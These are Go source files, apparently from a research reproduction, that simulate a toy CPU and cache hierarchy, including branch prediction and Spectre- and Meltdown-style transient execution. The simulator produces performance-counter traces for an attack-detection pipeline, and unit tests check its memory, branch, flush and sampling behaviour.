	if err := json.NewDecoder(r).Decode(&in); err != nil {
		return nil, fmt.Errorf("detect: load repository: %w", err)
	}
	if in.Version != repoFormatVersion {
		return nil, fmt.Errorf("detect: unsupported repository version %d", in.Version)
	}
	repo := &Repository{}
	for _, ef := range in.Entries {
		bbs := &model.CSTBBS{Name: ef.Name, TimerReads: ef.TimerReads}
		for _, c := range ef.Seq {
			bbs.Seq = append(bbs.Seq, model.CST{
				Leader:     c.Leader,
				Before:     cache.State{AO: c.BeforeAO, IO: c.BeforeIO},
				After:      cache.State{AO: c.AfterAO, IO: c.AfterIO},
				NormInsns:  c.NormInsns,
				FirstCycle: c.FirstCycle,
				HPCValue:   c.HPCValue,
			})
		}
		repo.Add(ef.Name, attacks.Family(ef.Family), bbs)
	}
	return repo, nil
}
