// Package exec executes ISA programs on top of the cache simulator,
// standing in for the paper's real-hardware data collection (perf HPC
// sampling + Intel PT address tracing). A Machine interleaves up to two
// processes — the monitored program and an optional victim — over one
// shared cache hierarchy, models a 2-bit branch predictor with a bounded
// speculative window (enough for Spectre v1 transient leakage), and
// produces a Trace: HPC events attributed per instruction address,
// accessed/flushed cache lines per instruction, first-execution
// timestamps, a chronological cache-set trace and windowed HPC samples.
package exec

import (
	"fmt"

	"repro/internal/cache"
	"repro/internal/hpc"
	"repro/internal/isa"
)

// Config tunes a Machine.
type Config struct {
	Hierarchy cache.HierarchyConfig
	// MaxRetired bounds the number of instructions the monitored process
	// may retire (0 means DefaultMaxRetired).
	MaxRetired uint64
	// Quantum is the round-robin scheduling quantum in instructions.
	Quantum int
	// SpecWindow is the transient-execution window in instructions;
	// 0 disables speculation entirely.
	SpecWindow int
	// WindowWidth is the HPC sampling window in cycles.
	WindowWidth uint64
	// MaxSetTrace caps the cache-set trace length (0 = DefaultMaxSetTrace).
	MaxSetTrace int
	// RecordEvents enables the chronological event log (Trace.Events),
	// the replayable record the sliding-window detector consumes. Off by
	// default: the log costs memory proportional to trace activity.
	RecordEvents bool
	// MaxEvents caps the event log length (0 = DefaultMaxEvents). On
	// overflow recording stops and Trace.EventsTruncated is set.
	MaxEvents int
	// PredictorSize is the direction-predictor table size.
	PredictorSize int
	// Protected lists address ranges an architectural data access may
	// not touch: a retired load or store inside one faults (halting the
	// process), but a transient load passes through — the Meltdown-type
	// behavior where the permission check lags the data read.
	Protected []AddrRange
}

// AddrRange is a half-open address interval [Base, Base+Size).
type AddrRange struct {
	Base, Size uint64
}

// Contains reports whether addr falls in the range.
func (r AddrRange) Contains(addr uint64) bool {
	return addr >= r.Base && addr < r.Base+r.Size
}

// Defaults for Config zero fields.
const (
	DefaultMaxRetired  = 2_000_000
	DefaultQuantum     = 32
	DefaultSpecWindow  = 48
	DefaultMaxSetTrace = 1 << 20
	DefaultMaxEvents   = 1 << 22
)

// DefaultConfig returns the configuration used throughout the
// reproduction.
func DefaultConfig() Config {
	return Config{
		Hierarchy:  cache.DefaultHierarchyConfig(),
		MaxRetired: DefaultMaxRetired,
		Quantum:    DefaultQuantum,
		SpecWindow: DefaultSpecWindow,
	}
}

func (c Config) withDefaults() Config {
	if c.Hierarchy.L1D.Sets == 0 {
		c.Hierarchy = cache.DefaultHierarchyConfig()
	}
	if c.MaxRetired == 0 {
		c.MaxRetired = DefaultMaxRetired
	}
	if c.Quantum <= 0 {
		c.Quantum = DefaultQuantum
	}
	if c.MaxSetTrace == 0 {
		c.MaxSetTrace = DefaultMaxSetTrace
	}
	if c.MaxEvents == 0 {
		c.MaxEvents = DefaultMaxEvents
	}
	return c
}

// flags is the condition state left by the last flag-setting instruction.
type flags struct {
	zf    bool // zero
	lt    bool // signed less-than
	below bool // unsigned below
}

// proc is one running process.
type proc struct {
	prog    *isa.Program
	regs    [isa.NumRegs]uint64
	fl      flags
	pc      uint64
	halted  bool
	owner   cache.Owner
	retired uint64
}

// stack placement: each process gets a disjoint 1 MiB stack.
const stackTop = 0x7f00_0000
const stackGap = 0x0010_0000

// Machine executes one monitored process and an optional victim over a
// shared cache hierarchy.
type Machine struct {
	cfg    Config
	mem    *Memory
	hier   *cache.Hierarchy
	pred   *BranchPredictor
	procs  []*proc
	cycles uint64
	trace  *Trace
}

// NewMachine builds a machine running the monitored program and an
// optional victim (nil for none). Data segments of both programs are
// materialized in memory before execution.
func NewMachine(cfg Config, monitored *isa.Program, victim *isa.Program) (*Machine, error) {
	if victim == nil {
		return NewMachineMulti(cfg, monitored)
	}
	return NewMachineMulti(cfg, monitored, victim)
}

// NewMachineMulti builds a machine with any number of co-running
// processes besides the monitored one — victims, and noisy co-tenants
// for robustness experiments. All processes share the cache hierarchy;
// only the first (monitored) one is traced.
func NewMachineMulti(cfg Config, monitored *isa.Program, others ...*isa.Program) (*Machine, error) {
	cfg = cfg.withDefaults()
	if monitored == nil {
		return nil, fmt.Errorf("exec: monitored program is nil")
	}
	hier, err := cache.NewHierarchy(cfg.Hierarchy)
	if err != nil {
		return nil, err
	}
	m := &Machine{
		cfg:   cfg,
		mem:   NewMemory(),
		hier:  hier,
		pred:  NewBranchPredictor(cfg.PredictorSize),
		trace: newTrace(cfg.WindowWidth, cfg.MaxSetTrace, cfg.RecordEvents, cfg.MaxEvents),
	}
	progs := []*isa.Program{monitored}
	for _, o := range others {
		if o == nil {
			return nil, fmt.Errorf("exec: nil co-running program")
		}
		progs = append(progs, o)
	}
	for i, pr := range progs {
		if err := pr.Validate(); err != nil {
			return nil, err
		}
		for _, d := range pr.Data {
			if len(d.Init) > 0 {
				m.mem.WriteBytes(d.Addr, d.Init)
			}
		}
		p := &proc{prog: pr, pc: pr.Entry, owner: cache.Owner(i)}
		p.regs[isa.R14] = uint64(stackTop - i*stackGap)
		m.procs = append(m.procs, p)
	}
	return m, nil
}

// Hierarchy exposes the shared cache hierarchy (tests, occupancy checks).
func (m *Machine) Hierarchy() *cache.Hierarchy { return m.hier }

// Memory exposes physical memory (tests, victim secret setup).
func (m *Machine) Memory() *Memory { return m.mem }

// Cycles returns the current virtual time.
func (m *Machine) Cycles() uint64 { return m.cycles }

// RegisterOfMonitored returns the architectural value of a register of
// the monitored process; useful for result inspection after Run.
func (m *Machine) RegisterOfMonitored(r isa.Reg) uint64 {
	if !r.Valid() {
		return 0
	}
	return m.procs[0].regs[r]
}

// Run interleaves the processes round-robin until the monitored process
// halts or its retired-instruction budget is exhausted, then returns the
// trace. Run may be called once per Machine.
func (m *Machine) Run() *Trace {
	mon := m.procs[0]
	for !mon.halted && mon.retired < m.cfg.MaxRetired {
		progress := false
		for i, p := range m.procs {
			if p.halted {
				continue
			}
			for q := 0; q < m.cfg.Quantum && !p.halted; q++ {
				m.step(p, i == 0)
				progress = true
				if i == 0 && (p.halted || p.retired >= m.cfg.MaxRetired) {
					break
				}
			}
			if mon.halted || mon.retired >= m.cfg.MaxRetired {
				break
			}
		}
		if !progress {
			break
		}
	}
	m.trace.Halted = mon.halted
	m.trace.finish(m.cycles)
	return m.trace
}

// ea computes an effective address from a memory operand and a register
// file.
func ea(op isa.Operand, regs *[isa.NumRegs]uint64) uint64 {
	var a uint64
	if op.Base != isa.RegNone {
		a += regs[op.Base]
	}
	if op.Index != isa.RegNone {
		s := uint64(op.Scale)
		if s == 0 {
			s = 1
		}
		a += regs[op.Index] * s
	}
	return a + uint64(op.Disp)
}

// fireAccessEvents converts one cache access result into HPC events.
func (m *Machine) fireAccessEvents(res cache.AccessResult, pc uint64, monitored bool) {
	if !monitored {
		return
	}
	t := m.trace
	cyc := m.cycles
	switch res.Kind {
	case cache.Load:
		if res.L1Hit {
			t.fire(hpc.L1DLoadHit, pc, cyc)
			return
		}
		t.fire(hpc.L1DLoadMiss, pc, cyc)
		if res.LLCHit {
			t.fire(hpc.LLCLoadHit, pc, cyc)
		} else {
			t.fire(hpc.LLCLoadMiss, pc, cyc)
			t.fire(hpc.CacheMiss, pc, cyc)
		}
	case cache.Store:
		if res.L1Hit {
			t.fire(hpc.L1DStoreHit, pc, cyc)
			return
		}
		if res.LLCHit {
			t.fire(hpc.LLCStoreHit, pc, cyc)
		} else {
			t.fire(hpc.LLCStoreMiss, pc, cyc)
			t.fire(hpc.CacheMiss, pc, cyc)
		}
	case cache.Fetch:
		if !res.L1Hit {
			t.fire(hpc.L1ILoadMiss, pc, cyc)
			if !res.LLCHit {
				t.fire(hpc.CacheMiss, pc, cyc)
			}
		}
	}
}

// protectedAt reports whether an architectural access to addr faults.
func (m *Machine) protectedAt(addr uint64) bool {
	for _, r := range m.cfg.Protected {
		if r.Contains(addr) {
			return true
		}
	}
	return false
}

// load performs an architectural data load.
func (m *Machine) load(p *proc, pc, addr uint64, monitored bool) uint64 {
	if m.protectedAt(addr) {
		// Permission fault: the access never completes architecturally.
		p.halted = true
		return 0
	}
	res := m.hier.Access(addr, cache.Load, p.owner)
	m.cycles += res.Latency
	m.fireAccessEvents(res, pc, monitored)
	if monitored {
		m.trace.memLine(pc, m.hier.LLC().LineAddr(addr), m.cycles)
		m.trace.setAccess(m.cycles, m.hier.LLCSetIndex(addr), m.hier.LLC().LineAddr(addr), SetRead, pc)
	}
	return m.mem.Load64(addr)
}

// store performs an architectural data store.
func (m *Machine) store(p *proc, pc, addr, val uint64, monitored bool) {
	if m.protectedAt(addr) {
		p.halted = true
		return
	}
	res := m.hier.Access(addr, cache.Store, p.owner)
	m.cycles += res.Latency
	m.fireAccessEvents(res, pc, monitored)
	if monitored {
		m.trace.memLine(pc, m.hier.LLC().LineAddr(addr), m.cycles)
		m.trace.setAccess(m.cycles, m.hier.LLCSetIndex(addr), m.hier.LLC().LineAddr(addr), SetWrite, pc)
	}
	m.mem.Store64(addr, val)
}

// readOperand evaluates a source operand architecturally.
func (m *Machine) readOperand(p *proc, pc uint64, op isa.Operand, monitored bool) uint64 {
	switch op.Kind {
	case isa.OpReg:
		return p.regs[op.Base]
	case isa.OpImm:
		return uint64(op.Disp)
	case isa.OpMem:
		return m.load(p, pc, ea(op, &p.regs), monitored)
	}
	return 0
}

// writeOperand writes an architectural destination operand.
func (m *Machine) writeOperand(p *proc, pc uint64, op isa.Operand, val uint64, monitored bool) {
	switch op.Kind {
	case isa.OpReg:
		p.regs[op.Base] = val
	case isa.OpMem:
		m.store(p, pc, ea(op, &p.regs), val, monitored)
	}
}

func alu(op isa.Opcode, a, b uint64) uint64 {
	switch op {
	case isa.ADD:
		return a + b
	case isa.SUB:
		return a - b
	case isa.MUL:
		return a * b
	case isa.XOR:
		return a ^ b
	case isa.AND:
		return a & b
	case isa.OR:
		return a | b
	case isa.SHL:
		return a << (b & 63)
	case isa.SHR:
		return a >> (b & 63)
	case isa.INC:
		return a + 1
	case isa.DEC:
		return a - 1
	}
	return a
}

func setResultFlags(fl *flags, res uint64) {
	fl.zf = res == 0
	fl.lt = int64(res) < 0
	fl.below = false
}

func evalCond(op isa.Opcode, fl flags) bool {
	switch op {
	case isa.JE:
		return fl.zf
	case isa.JNE:
		return !fl.zf
	case isa.JL:
		return fl.lt
	case isa.JLE:
		return fl.lt || fl.zf
	case isa.JG:
		return !fl.lt && !fl.zf
	case isa.JGE:
		return !fl.lt
	case isa.JB:
		return fl.below
	case isa.JAE:
		return !fl.below
	}
	return false
}

// step retires one instruction of p.
func (m *Machine) step(p *proc, monitored bool) {
	pc := p.pc
	in, ok := p.prog.At(pc)
	if !ok {
		// Fell off the program (fault): halt.
		p.halted = true
		return
	}

	// Instruction fetch through the I-cache.
	fres := m.hier.Access(pc, cache.Fetch, p.owner)
	m.cycles += fres.Latency / 4 // fetch overlaps with execution
	m.fireAccessEvents(fres, pc, monitored)

	m.cycles++ // base execution cost
	nextPC := in.Next()

	switch in.Op {
	case isa.NOP, isa.LFENCE, isa.MFENCE:
		// no architectural effect

	case isa.HLT:
		p.halted = true

	case isa.MOV:
		v := m.readOperand(p, pc, in.Src, monitored)
		m.writeOperand(p, pc, in.Dst, v, monitored)

	case isa.LEA:
		p.regs[in.Dst.Base] = ea(in.Src, &p.regs)

	case isa.ADD, isa.SUB, isa.MUL, isa.XOR, isa.AND, isa.OR, isa.SHL, isa.SHR:
		a := m.readOperand(p, pc, in.Dst, monitored)
		b := m.readOperand(p, pc, in.Src, monitored)
		r := alu(in.Op, a, b)
		m.writeOperand(p, pc, in.Dst, r, monitored)
		setResultFlags(&p.fl, r)

	case isa.INC, isa.DEC:
		a := m.readOperand(p, pc, in.Dst, monitored)
		r := alu(in.Op, a, 0)
		m.writeOperand(p, pc, in.Dst, r, monitored)
		setResultFlags(&p.fl, r)

	case isa.CMP:
		a := m.readOperand(p, pc, in.Dst, monitored)
		b := m.readOperand(p, pc, in.Src, monitored)
		p.fl.zf = a == b
		p.fl.lt = int64(a) < int64(b)
		p.fl.below = a < b

	case isa.TEST:
		a := m.readOperand(p, pc, in.Dst, monitored)
		b := m.readOperand(p, pc, in.Src, monitored)
		setResultFlags(&p.fl, a&b)

	case isa.PUSH:
		v := m.readOperand(p, pc, in.Dst, monitored)
		p.regs[isa.R14] -= 8
		m.store(p, pc, p.regs[isa.R14], v, monitored)

	case isa.POP:
		v := m.load(p, pc, p.regs[isa.R14], monitored)
		p.regs[isa.R14] += 8
		m.writeOperand(p, pc, in.Dst, v, monitored)

	case isa.CLFLUSH:
		addr := ea(in.Dst, &p.regs)
		lat, wasCached := m.hier.Flush(addr)
		m.cycles += lat
		if monitored {
			m.trace.flushLine(pc, m.hier.LLC().LineAddr(addr), m.cycles)
			m.trace.setAccess(m.cycles, m.hier.LLCSetIndex(addr), m.hier.LLC().LineAddr(addr), SetFlush, pc)
			if wasCached {
				// The forced eviction reaches memory (writeback path);
				// HPCs observe it as a cache miss, which is what makes
				// flush-phase blocks visible to the modeling pipeline.
				m.trace.fire(hpc.CacheMiss, pc, m.cycles)
			}
		}

	case isa.RDTSCP:
		p.regs[in.Dst.Base] = m.cycles
		if monitored {
			m.trace.fire(hpc.Timestamp, pc, m.cycles)
		}

	case isa.JMP:
		if in.Dst.Kind == isa.OpImm {
			nextPC = uint64(in.Dst.Disp)
		} else {
			// Indirect jump: the front end fetches from the BTB's stale
			// target until the real one resolves — the Spectre-v2
			// branch-target-injection window.
			actual := m.readOperand(p, pc, in.Dst, monitored)
			predicted, had := m.pred.UpdateIndirect(pc, actual)
			if !had {
				if monitored {
					m.trace.fire(hpc.BranchLoadMiss, pc, m.cycles)
				}
			} else if predicted != actual {
				if monitored {
					m.trace.fire(hpc.BranchMiss, pc, m.cycles)
				}
				m.cycles += 15
				if m.cfg.SpecWindow > 0 {
					m.speculate(p, predicted, monitored)
				}
			}
			nextPC = actual
		}

	case isa.CALL:
		p.regs[isa.R14] -= 8
		m.store(p, pc, p.regs[isa.R14], in.Next(), monitored)
		if in.Dst.Kind == isa.OpImm {
			nextPC = uint64(in.Dst.Disp)
		} else {
			nextPC = p.regs[in.Dst.Base]
		}

	case isa.RET:
		nextPC = m.load(p, pc, p.regs[isa.R14], monitored)
		p.regs[isa.R14] += 8

	case isa.JE, isa.JNE, isa.JL, isa.JLE, isa.JG, isa.JGE, isa.JB, isa.JAE:
		taken := evalCond(in.Op, p.fl)
		target := uint64(in.Dst.Disp)
		predictedTaken := m.pred.PredictTaken(pc)
		mispredicted, btbMiss := m.pred.Update(pc, taken, target)
		if monitored {
			if mispredicted {
				m.trace.fire(hpc.BranchMiss, pc, m.cycles)
			}
			if btbMiss {
				m.trace.fire(hpc.BranchLoadMiss, pc, m.cycles)
			}
		}

		if mispredicted {
			m.cycles += 15 // misprediction penalty
			if m.cfg.SpecWindow > 0 {
				// The transient path is the one the predictor chose.
				wrongPC := in.Next()
				if predictedTaken {
					wrongPC = target
				}
				m.speculate(p, wrongPC, monitored)
			}
		}
		if taken {
			nextPC = target
		}
	}

	p.pc = nextPC
	p.retired++
	if monitored {
		m.trace.retire(pc, m.cycles)
		m.trace.tickWindows(m.cycles)
	}
}

// speculate executes the transient wrong path: loads touch the cache for
// real (the Spectre leak) but stores, flushes and architectural state are
// squashed. Events observed transiently are attributed to the transient
// instruction addresses, mirroring how HPCs count speculative cache
// traffic on real parts.
func (m *Machine) speculate(p *proc, startPC uint64, monitored bool) {
	regs := p.regs // copy of the architectural register file
	fl := p.fl
	pc := startPC
	for i := 0; i < m.cfg.SpecWindow; i++ {
		in, ok := p.prog.At(pc)
		if !ok || in.Op.IsSerializing() {
			return
		}
		next := in.Next()
		specLoad := func(addr uint64) uint64 {
			res := m.hier.Access(addr, cache.Load, p.owner)
			m.cycles += res.Latency / 2 // overlapped with recovery
			m.fireAccessEvents(res, pc, monitored)
			if monitored {
				m.trace.memLine(pc, m.hier.LLC().LineAddr(addr), m.cycles)
				m.trace.setAccess(m.cycles, m.hier.LLCSetIndex(addr), m.hier.LLC().LineAddr(addr), SetRead, pc)
			}
			return m.mem.Load64(addr)
		}
		read := func(op isa.Operand) uint64 {
			switch op.Kind {
			case isa.OpReg:
				return regs[op.Base]
			case isa.OpImm:
				return uint64(op.Disp)
			case isa.OpMem:
				return specLoad(ea(op, &regs))
			}
			return 0
		}
		switch in.Op {
		case isa.NOP:
		case isa.MOV:
			if in.Dst.Kind == isa.OpReg {
				regs[in.Dst.Base] = read(in.Src)
			}
			// Transient stores stay in the store buffer: no effect.
		case isa.LEA:
			regs[in.Dst.Base] = ea(in.Src, &regs)
		case isa.ADD, isa.SUB, isa.MUL, isa.XOR, isa.AND, isa.OR, isa.SHL, isa.SHR:
			if in.Dst.Kind == isa.OpReg {
				r := alu(in.Op, regs[in.Dst.Base], read(in.Src))
				regs[in.Dst.Base] = r
				setResultFlags(&fl, r)
			}
		case isa.INC, isa.DEC:
			if in.Dst.Kind == isa.OpReg {
				r := alu(in.Op, regs[in.Dst.Base], 0)
				regs[in.Dst.Base] = r
				setResultFlags(&fl, r)
			}
		case isa.CMP:
			a, b := read(in.Dst), read(in.Src)
			fl.zf, fl.lt, fl.below = a == b, int64(a) < int64(b), a < b
		case isa.TEST:
			setResultFlags(&fl, read(in.Dst)&read(in.Src))
		case isa.JMP:
			if in.Dst.Kind == isa.OpImm {
				next = uint64(in.Dst.Disp)
			} else {
				next = regs[in.Dst.Base]
			}
		case isa.JE, isa.JNE, isa.JL, isa.JLE, isa.JG, isa.JGE, isa.JB, isa.JAE:
			if evalCond(in.Op, fl) {
				next = uint64(in.Dst.Disp)
			}
		case isa.CALL, isa.RET, isa.PUSH, isa.POP, isa.CLFLUSH:
			// Squash-side-effect-heavy ops end the transient window here.
			return
		case isa.HLT:
			return
		}
		if monitored {
			m.trace.Transient++
		}
		pc = next
	}
}
