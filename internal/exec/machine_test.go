package exec

import (
	"testing"

	"repro/internal/hpc"
	"repro/internal/isa"
)

// run executes a program alone with a default machine and returns the
// trace and machine.
func run(t *testing.T, p *isa.Program) (*Trace, *Machine) {
	t.Helper()
	m, err := NewMachine(DefaultConfig(), p, nil)
	if err != nil {
		t.Fatal(err)
	}
	return m.Run(), m
}

func TestMemoryByteAndWord(t *testing.T) {
	m := NewMemory()
	if m.LoadByte(0x123456) != 0 {
		t.Error("untouched memory must read 0")
	}
	m.StoreByte(5, 0xab)
	if m.LoadByte(5) != 0xab {
		t.Error("byte roundtrip failed")
	}
	m.Store64(0xfff_ffa, 0x1122334455667788) // crosses a page boundary
	if got := m.Load64(0xfff_ffa); got != 0x1122334455667788 {
		t.Errorf("cross-page word = %#x", got)
	}
	m.WriteBytes(0x2000, []byte{1, 2, 3})
	if m.LoadByte(0x2002) != 3 {
		t.Error("WriteBytes failed")
	}
	if m.PageCount() == 0 {
		t.Error("pages should have been materialized")
	}
}

func TestPredictorTraining(t *testing.T) {
	bp := NewBranchPredictor(64)
	pc := uint64(0x100)
	if bp.PredictTaken(pc) {
		t.Error("initial prediction must be not-taken")
	}
	// First taken outcome: misprediction + BTB miss.
	mis, btb := bp.Update(pc, true, 0x200)
	if !mis || !btb {
		t.Errorf("first taken: mis=%v btb=%v", mis, btb)
	}
	// Train to taken.
	bp.Update(pc, true, 0x200)
	if !bp.PredictTaken(pc) {
		t.Error("predictor should now predict taken")
	}
	if tgt, ok := bp.PredictTarget(pc); !ok || tgt != 0x200 {
		t.Errorf("BTB = %#x,%v", tgt, ok)
	}
	// A not-taken outcome now mispredicts.
	mis, btb = bp.Update(pc, false, 0)
	if !mis || btb {
		t.Errorf("surprise not-taken: mis=%v btb=%v", mis, btb)
	}
	bp.Reset()
	if bp.PredictTaken(pc) {
		t.Error("reset should restore not-taken")
	}
	if _, ok := bp.PredictTarget(pc); ok {
		t.Error("reset should clear BTB")
	}
}

func TestPredictorSizeRounding(t *testing.T) {
	bp := NewBranchPredictor(0)
	if len(bp.counters) != 512 {
		t.Errorf("default size = %d", len(bp.counters))
	}
	bp2 := NewBranchPredictor(100)
	if len(bp2.counters) != 128 {
		t.Errorf("rounded size = %d", len(bp2.counters))
	}
}

func TestBasicALUAndHalt(t *testing.T) {
	b := isa.NewBuilder("alu", 0x1000)
	b.Mov(isa.R(isa.R0), isa.Imm(6)).
		Mov(isa.R(isa.R1), isa.Imm(7)).
		Mul(isa.R(isa.R0), isa.R(isa.R1)).
		Add(isa.R(isa.R0), isa.Imm(8)).
		Sub(isa.R(isa.R0), isa.Imm(20)).
		Shl(isa.R(isa.R0), isa.Imm(1)).
		Shr(isa.R(isa.R0), isa.Imm(1)).
		Xor(isa.R(isa.R0), isa.Imm(0)).
		Hlt()
	p := b.MustBuild()
	m, err := NewMachine(DefaultConfig(), p, nil)
	if err != nil {
		t.Fatal(err)
	}
	tr := m.Run()
	if !tr.Halted {
		t.Fatal("program did not halt")
	}
	if got := m.procs[0].regs[isa.R0]; got != 30 {
		t.Errorf("r0 = %d, want 30", got)
	}
	if tr.Retired != 9 {
		t.Errorf("retired = %d, want 9", tr.Retired)
	}
}

func TestLoadsAndStores(t *testing.T) {
	b := isa.NewBuilder("mem", 0x1000)
	buf := b.Bytes("buf", 64, false)
	b.Mov(isa.R(isa.R1), isa.Imm(int64(buf))).
		Mov(isa.Mem(isa.R1, 0), isa.Imm(0xdead)).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	tr := m.Run()
	if got := m.procs[0].regs[isa.R0]; got != 0xdead {
		t.Errorf("r0 = %#x", got)
	}
	// The store missed (cold), the load hit in L1.
	g := tr.Bank.Global()
	if g[hpc.L1DLoadHit] == 0 {
		t.Errorf("expected an L1D load hit, got %+v", g)
	}
	if g[hpc.LLCStoreMiss] == 0 {
		t.Errorf("expected an LLC store miss, got %+v", g)
	}
}

func TestDataSegmentInitialization(t *testing.T) {
	b := isa.NewBuilder("init", 0x1000)
	seg := b.DataInit("d", 16, []byte{0x2a}, false)
	b.Mov(isa.R(isa.R1), isa.Imm(int64(seg))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	m.Run()
	if got := m.procs[0].regs[isa.R0] & 0xff; got != 0x2a {
		t.Errorf("initialized data read %#x", got)
	}
}

func TestLoopAndConditionals(t *testing.T) {
	// sum 1..10 via JL loop.
	b := isa.NewBuilder("loop", 0)
	b.Mov(isa.R(isa.R0), isa.Imm(0)). // sum
						Mov(isa.R(isa.R1), isa.Imm(1)). // i
						Label("loop").
						Add(isa.R(isa.R0), isa.R(isa.R1)).
						Inc(isa.R(isa.R1)).
						Cmp(isa.R(isa.R1), isa.Imm(11)).
						Jl("loop").
						Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	tr := m.Run()
	if got := m.procs[0].regs[isa.R0]; got != 55 {
		t.Errorf("sum = %d, want 55", got)
	}
	// The loop branch must have mispredicted at least once (exit).
	if tr.Bank.Global()[hpc.BranchMiss] == 0 {
		t.Error("expected at least one branch miss")
	}
}

func TestAllConditionCodes(t *testing.T) {
	// For (a,b) pairs exercise JE/JNE/JL/JLE/JG/JGE/JB/JAE by counting
	// taken branches into R0 bits.
	cases := []struct {
		a, b int64
		op   func(*isa.Builder, string) *isa.Builder
		want bool
	}{
		{5, 5, (*isa.Builder).Je, true},
		{5, 6, (*isa.Builder).Je, false},
		{5, 6, (*isa.Builder).Jne, true},
		{-1, 1, (*isa.Builder).Jl, true},
		{1, -1, (*isa.Builder).Jl, false},
		{5, 5, (*isa.Builder).Jle, true},
		{7, 5, (*isa.Builder).Jg, true},
		{5, 5, (*isa.Builder).Jg, false},
		{5, 5, (*isa.Builder).Jge, true},
		{-1, 1, (*isa.Builder).Jb, false}, // unsigned: ^uint64(0) is huge
		{1, 2, (*isa.Builder).Jb, true},
		{2, 1, (*isa.Builder).Jae, true},
		{-1, 1, (*isa.Builder).Jae, true},
	}
	for i, c := range cases {
		b := isa.NewBuilder("cond", 0)
		b.Mov(isa.R(isa.R0), isa.Imm(0)).
			Mov(isa.R(isa.R1), isa.Imm(c.a)).
			Cmp(isa.R(isa.R1), isa.Imm(c.b))
		c.op(b, "taken")
		b.Jmp("end").
			Label("taken").
			Mov(isa.R(isa.R0), isa.Imm(1)).
			Label("end").
			Hlt()
		p := b.MustBuild()
		m, _ := NewMachine(DefaultConfig(), p, nil)
		m.Run()
		got := m.procs[0].regs[isa.R0] == 1
		if got != c.want {
			t.Errorf("case %d (%d vs %d): taken=%v want %v", i, c.a, c.b, got, c.want)
		}
	}
}

func TestCallRetPushPop(t *testing.T) {
	b := isa.NewBuilder("call", 0)
	b.Mov(isa.R(isa.R0), isa.Imm(1)).
		Push(isa.Imm(99)).
		Call("fn").
		Pop(isa.R(isa.R2)).
		Hlt().
		Label("fn").
		Mov(isa.R(isa.R0), isa.Imm(42)).
		Ret()
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	tr := m.Run()
	if !tr.Halted {
		t.Fatal("did not halt (call/ret broken)")
	}
	if m.procs[0].regs[isa.R0] != 42 {
		t.Errorf("r0 = %d", m.procs[0].regs[isa.R0])
	}
	if m.procs[0].regs[isa.R2] != 99 {
		t.Errorf("r2 = %d (push/pop broken)", m.procs[0].regs[isa.R2])
	}
	if m.procs[0].regs[isa.R14] != stackTop {
		t.Errorf("stack pointer leaked: %#x", m.procs[0].regs[isa.R14])
	}
}

func TestLeaDoesNotTouchMemory(t *testing.T) {
	b := isa.NewBuilder("lea", 0)
	b.Mov(isa.R(isa.R1), isa.Imm(0x4000)).
		Lea(isa.R0, isa.MemIdx(isa.R1, isa.R1, 2, 8)).
		Hlt()
	p := b.MustBuild()
	tr, m := run(t, p)
	if got := m.procs[0].regs[isa.R0]; got != 0x4000+0x8000+8 {
		t.Errorf("lea = %#x", got)
	}
	// No data-cache events may have fired.
	g := tr.Bank.Global()
	if g[hpc.L1DLoadHit]+g[hpc.L1DLoadMiss] != 0 {
		t.Errorf("lea touched the data cache: %+v", g)
	}
}

func TestRdtscpAdvances(t *testing.T) {
	b := isa.NewBuilder("tsc", 0)
	b.Rdtscp(isa.R0).
		Mov(isa.R(isa.R2), isa.Mem(isa.R5, int64(0x40000))). // slow miss
		Rdtscp(isa.R1).
		Hlt()
	p := b.MustBuild()
	tr, m := run(t, p)
	t0, t1 := m.procs[0].regs[isa.R0], m.procs[0].regs[isa.R1]
	if t1 <= t0 {
		t.Errorf("time did not advance: %d .. %d", t0, t1)
	}
	if t1-t0 < 100 {
		t.Errorf("memory miss cost only %d cycles", t1-t0)
	}
	if tr.Bank.Global()[hpc.Timestamp] != 2 {
		t.Errorf("timestamp events = %d", tr.Bank.Global()[hpc.Timestamp])
	}
}

func TestClflushTracksFlushedLines(t *testing.T) {
	b := isa.NewBuilder("fl", 0)
	buf := b.Bytes("buf", 64, false)
	b.Mov(isa.R(isa.R1), isa.Imm(int64(buf))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Label("theflush").
		Clflush(isa.Mem(isa.R1, 0)).
		Hlt()
	p := b.MustBuild()
	tr, m := run(t, p)
	if m.Hierarchy().Cached(buf) {
		t.Error("line survived clflush")
	}
	flushPC := p.Labels["theflush"]
	rec := tr.ByAddr[flushPC]
	if rec == nil || len(rec.FlushLines) != 1 {
		t.Fatalf("flush not recorded: %+v", rec)
	}
	lines := tr.MemLinesOf(flushPC)
	if len(lines) != 1 || lines[0] != buf&^63 {
		t.Errorf("MemLinesOf(flush) = %v", lines)
	}
}

func TestTraceFirstCycleAndExecCount(t *testing.T) {
	b := isa.NewBuilder("tc", 0)
	b.Mov(isa.R(isa.R0), isa.Imm(3)).
		Label("loop").
		Dec(isa.R(isa.R0)).
		Jne("loop").
		Hlt()
	p := b.MustBuild()
	tr, _ := run(t, p)
	loopPC := p.Labels["loop"]
	rec := tr.ByAddr[loopPC]
	if rec == nil || rec.ExecCount != 3 {
		t.Fatalf("loop exec count = %+v", rec)
	}
	first := tr.ByAddr[p.Entry]
	if first == nil || first.FirstCycle > rec.FirstCycle {
		t.Error("first-cycle ordering wrong")
	}
}

func TestWindowSampling(t *testing.T) {
	cfg := DefaultConfig()
	cfg.WindowWidth = 64
	b := isa.NewBuilder("win", 0)
	buf := b.Bytes("buf", 8192, false)
	b.Mov(isa.R(isa.R0), isa.Imm(0)).
		Label("loop").
		Mov(isa.R(isa.R1), isa.MemIdx(isa.R2, isa.R0, 1, int64(buf))).
		Add(isa.R(isa.R0), isa.Imm(64)).
		Cmp(isa.R(isa.R0), isa.Imm(8192)).
		Jl("loop").
		Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(cfg, p, nil)
	tr := m.Run()
	if len(tr.Windows) < 2 {
		t.Fatalf("windows = %d, want several", len(tr.Windows))
	}
	var total hpc.Counts
	for _, w := range tr.Windows {
		total.Add(w.Counts)
	}
	if total != tr.Bank.Global() {
		t.Error("window sum must equal global counters")
	}
}

